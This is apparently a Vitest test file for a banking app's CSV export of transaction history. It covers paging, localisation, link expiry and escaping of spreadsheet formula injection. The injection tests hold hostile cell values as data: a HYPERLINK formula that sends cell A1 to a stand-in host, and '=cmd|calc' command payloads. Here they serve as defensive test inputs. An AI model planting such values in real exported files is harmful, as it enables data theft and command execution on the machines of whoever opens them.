// @vitest-environment node
import Papa from 'papaparse';
import { LINK_LIFETIME_MS } from '../../files/links.ts';
import { testDbKinds } from '../../test/databases.ts';
import { createTestSandbox, type TestSandbox } from '../../test/harness.ts';
import { historyCsv } from './history-export.ts';
import type { HistoryEntry } from './history-query.ts';

interface Entry {
  transactionId: number;
  dateTime: string;
  direction: 'incoming' | 'outgoing';
  amount: string;
  currencyCode: string;
  accountNumber: string;
}

/** The rows of a CSV file (which must start with a UTF-8 byte order mark). */
async function rowsOf(response: Response): Promise<string[][]> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return Papa.parse<string[]>(new TextDecoder().decode(bytes.slice(3)), { skipEmptyLines: true }).data;
}

describe.each(testDbKinds)('the history export (exportCsv) on %s', (kind) => {
  let t: TestSandbox;
  let anna: string;
  const history = async (filter: object) => (await t.call('transactionHistory', filter, { token: anna })).body;

  /** Every row of the filter through the pages (100 a page), as the screen walks them. */
  async function pages(filter: object): Promise<Entry[]> {
    const rows: Entry[] = [];
    for (let pageNumber = 1; ; pageNumber += 1) {
      const body = await history({ ...filter, pageNumber, pageSize: 100 });
      rows.push(...body.transactions.transaction);
      if (rows.length >= body.results) return rows;
    }
  }

  beforeAll(async () => {
    t = await createTestSandbox(kind);
    anna = (await t.signIn('anna.personal')).accessToken;
  });
  afterAll(() => t.close());

  test.each([
    ['no filter', {}],
    ['outgoing card purchases', { transactionType: 10, transactionDirection: 'outgoing' }],
    ['rejected', { status: 26 }],
    ['a keyword and an amount range', { keyword: 'a', fromAmount: '5', toAmount: '500' }],
    ['nothing matches', { keyword: 'no such words anywhere' }],
  ])('%s: the file holds every filtered row, in the order of the pages', async (_, filter) => {
    const expected = await pages(filter);
    const { exportCsv } = await history({ ...filter, pageSize: 5 });
    expect(exportCsv).toMatch(/^\/api\/files\/[\w-]+\.[\w-]+$/);
    const response = await t.request(exportCsv);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/filename="history-\d{4}-\d{2}-\d{2}\.csv"/);
    const [header, ...lines] = await rowsOf(response);
    expect(header).toEqual(['Date', 'Transaction', 'Description', 'Type', 'Status', 'Account', 'Amount', 'Currency']);
    expect(
      lines.map(([date, id, , , , account, amount, currency]) => ({ date, id, account, amount, currency })),
    ).toEqual(
      expected.map((row) => ({
        date: row.dateTime,
        id: String(row.transactionId),
        account: row.accountNumber,
        amount: row.direction === 'outgoing' ? `-${row.amount}` : row.amount,
        currency: row.currencyCode,
      })),
    );
  });

  test('the file speaks the language of the call: header, type and status', async () => {
    const { exportCsv } = await t
      .call('transactionHistory', { transactionType: 10, status: 2, lang: 'ru' }, { token: anna })
      .then((r) => r.body);
    const [header, first] = await rowsOf(await t.request(exportCsv));
    expect(header).toEqual(['Дата', 'Операция', 'Описание', 'Тип', 'Статус', 'Счёт', 'Сумма', 'Валюта']);
    expect(first?.slice(3, 5)).toEqual(['Покупка по карте', 'Выполнено']);
  });

  test('the link works for LINK_LIFETIME_MS, then answers 410; a changed link 404', async () => {
    const { exportCsv } = await history({ transactionType: 11 });
    expect((await t.request(`${exportCsv}x`)).status).toBe(404);
    t.clock.advance(LINK_LIFETIME_MS + 1);
    expect((await t.request(exportCsv)).status).toBe(410);
  });
});

const entry = (extra: Partial<HistoryEntry>): HistoryEntry => ({
  transactionId: 7,
  transactionDate: '2026-11-04',
  dateTime: '2026-11-04T14:22:00Z',
  typeId: 2,
  type: 'p2p',
  operationType: 'Person to person',
  statusId: 2,
  status: 'completed',
  direction: 'outgoing',
  accountId: 11,
  accountNumber: 'PD0000000011',
  amount: '12.50',
  currencyCode: 'EUR',
  fee: '0.00',
  description: 'Rent',
  counterpartyName: null,
  counterpartyEmail: null,
  reference: null,
  sentAmount: '12.50',
  sentCurrencyCode: 'EUR',
  toAmount: '12.50',
  toCurrencyCode: 'EUR',
  exchangeRate: '1',
  counterpartyAccount: null,
  isDisabled: false,
  ...extra,
});

describe('historyCsv: formula injection and amounts', () => {
  const line = (extra: Partial<HistoryEntry>) => historyCsv([entry(extra)], 'en').split('\r\n')[1];

  test.each([
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['+31 20 555 0100', "'+31 20 555 0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['＝1+1', "'＝1+1"],
    ['Rent, November', '"Rent, November"'],
    ['Café 5% off', 'Café 5% off'],
    [';=HYPERLINK("http://example.invalid/?"&A1;"open")', `"';=HYPERLINK(""http://example.invalid/?""&A1;""open"")"`],
    ['Refund |=cmd', "'Refund |=cmd"],
  ])('a description %j is written %s', (description, cell) => {
    expect(line({ description })).toBe(
      `2026-11-04T14:22:00Z,7,${cell},Person to person,Completed,PD0000000011,-12.50,EUR`,
    );
  });

  test.each([
    ['outgoing', '12.50', '-12.50'],
    ['incoming', '12.50', '12.50'],
    ['outgoing', '0.00', '0.00'],
    ['outgoing', '0.12345678', '-0.12345678'],
  ] as const)('%s %s is the number %s, never prefixed', (direction, amount, cell) => {
    expect(line({ direction, amount })?.split(',')[6]).toBe(cell);
  });

  test('the counterparty stands in for an empty description, and is neutralised too', () => {
    expect(line({ description: '', counterpartyName: '=cmd|calc' })?.split(',')[2]).toBe("'=cmd|calc");
  });
});
